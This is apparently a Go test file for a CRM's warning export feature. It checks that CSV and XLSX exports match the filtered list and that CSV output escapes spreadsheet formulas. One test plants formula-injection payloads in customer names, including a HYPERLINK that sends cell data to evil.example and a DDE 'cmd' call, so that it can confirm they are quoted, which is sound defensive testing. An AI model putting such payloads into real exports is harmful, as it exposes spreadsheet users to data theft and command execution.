package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"maps"
	"math"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"postcrm"
	"postcrm/export"
)

// exported downloads the export as name and returns its rows.
func exported(t *testing.T, f *fixture, name, format, filters string) [][]string {
	t.Helper()
	resp := f.session(t, name).get("/warnings/export?format=" + format + "&" + filters)
	data := []byte(body(t, resp))
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export %s %s: %d %s", format, filters, resp.StatusCode, resp.Header.Get("Content-Disposition"))
	}
	if format == "csv" {
		if !bytes.HasPrefix(data, []byte("\uFEFF")) {
			t.Error("the CSV has no BOM for Excel")
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	book, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	rows, err := book.GetRows(book.GetSheetName(0), excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// yuanOf reads a yuan figure, text in a CSV and a number in a workbook,
// as fen.
func yuanOf(t *testing.T, s string) int64 {
	t.Helper()
	x, err := strconv.ParseFloat(s, 64)
	if err != nil {
		t.Fatalf("yuan %q: %v", s, err)
	}
	return int64(math.Round(x * 100))
}

// TestExportMatchesTheList: with the list's filters, both exports hold
// exactly the list's rows over all its pages, in its order, with the
// column names in the user's language.
func TestExportMatchesTheList(t *testing.T) {
	f := newFixture(t)
	addWalkinWarnings(t, f, 60)
	keys := export.WarningKeys(true)
	col := func(key string) int { return slices.Index(keys, key) }
	for _, c := range []struct{ name, filters string }{
		{provinceUser, ""},
		{provinceUser, "office=13000001"},
		{provinceUser, "kind=walkin_churn&city=" + url.QueryEscape("唐山市")},
		{cityUser, ""},
		{courierUser, ""},
		{courierUser, "kind=churn"},
	} {
		list := allWarnings(t, f, c.name, c.filters)
		for _, format := range []string{"csv", "xlsx"} {
			rows := exported(t, f, c.name, format, c.filters)
			if rows[0][col("revenue_at_risk")] != zhMessages["warnings.col.revenue_at_risk"] || rows[0][col("customer_name")] != zhMessages["warnings.col.customer_name"] {
				t.Errorf("%s %s header %v", c.filters, format, rows[0])
			}
			if len(rows)-1 != len(list) {
				t.Errorf("%s %s %s: %d rows, the list has %d", c.name, c.filters, format, len(rows)-1, len(list))
				continue
			}
			for i, w := range list {
				r := rows[i+1]
				if r[col("customer_code")] != w.CustomerCode || r[col("sender_phone")] != w.SenderPhone ||
					yuanOf(t, r[col("revenue_at_risk")]) != w.RevenueAtRiskFen || r[col("kind")] != zhMessages["kind."+string(w.Kind)] {
					t.Errorf("%s %s row %d: %v, the list has %+v", c.filters, format, i+1, r, w)
					break
				}
			}
		}
	}
	en := exported(t, f, courierUser, "csv", "lang=en")
	if en[0][col("revenue_at_risk")] != enMessages["warnings.col.revenue_at_risk"] || en[1][col("kind")] != enMessages["kind.decline"] {
		t.Errorf("English export: %v / %v", en[0], en[1])
	}
}

// TestExportLinksKeepTheFilters: the page's export links carry its
// filters and drop the page number.
func TestExportLinksKeepTheFilters(t *testing.T) {
	f := newFixture(t)
	addWalkinWarnings(t, f, 60)
	html := page(t, f, provinceUser, "/warnings?office=13100001&kind=walkin_churn&page=2")
	for _, format := range []string{"csv", "xlsx"} {
		want := fmt.Sprintf(`href="/warnings/export?format=%s&amp;kind=walkin_churn&amp;office=13100001"`, format)
		if !strings.Contains(html, want) {
			t.Errorf("no export link %s", want)
		}
	}
}

// TestCSVExportDoesNotRunFormulas: names a spreadsheet would run as
// formulas arrive in the CSV behind a quote, readable; a negative figure
// stays a number; the workbook keeps the names as they are (text cells).
func TestCSVExportDoesNotRunFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	hostile := map[string]string{
		"CUST-A": `=HYPERLINK("http://evil.example/?leak="&A2,"click")`,
		"CUST-B": `=cmd|' /C calc'!A0`,
		"CUST-C": `@SUM(1+9)`,
		"CUST-D": "\t+1+1",
	}
	customers := []postcrm.Customer{}
	for _, code := range slices.Sorted(maps.Keys(hostile)) {
		c, err := f.store.ScopedCustomer(ctx, postcrm.Scope{Role: postcrm.RoleProvinceAdmin}, code)
		if err != nil {
			t.Fatal(err)
		}
		c.Customer.Name = hostile[code]
		customers = append(customers, c.Customer)
	}
	if _, err := f.store.Apply(ctx, postcrm.Batch{Kind: postcrm.KindCustomers, Customers: customers}); err != nil {
		t.Fatal(err)
	}
	ws, err := f.store.Warnings(ctx, testMonth)
	if err != nil {
		t.Fatal(err)
	}
	for i := range ws {
		if ws[i].CustomerCode == "CUST-A" {
			ws[i].ActualFen, ws[i].Reason = -1250, "-退款多于收入" // a refund month
		}
	}
	if err := f.store.SaveWarnings(ctx, testMonth, []postcrm.WarningKind{postcrm.WarnDecline}, ws); err != nil {
		t.Fatal(err)
	}

	keys := export.WarningKeys(true)
	col := func(key string) int { return slices.Index(keys, key) }
	for _, format := range []string{"csv", "xlsx"} {
		rows := exported(t, f, provinceUser, format, "")
		seen := 0
		for _, r := range rows[1:] {
			name := hostile[r[col("customer_code")]]
			want := name
			if format == "csv" {
				want = "'" + name
			}
			if r[col("customer_name")] != want {
				t.Errorf("%s: name %q, want %q", format, r[col("customer_name")], want)
			}
			if r[col("customer_code")] == "CUST-A" {
				if format == "csv" && (r[col("actual_revenue")] != "-12.50" || r[col("reason")] != "'-退款多于收入") {
					t.Errorf("csv: actual revenue %q, reason %q; want -12.50 and the reason quoted", r[col("actual_revenue")], r[col("reason")])
				}
				seen++
			}
		}
		if seen != 1 {
			t.Errorf("%s: CUST-A's warning exported %d times", format, seen)
		}
	}
}
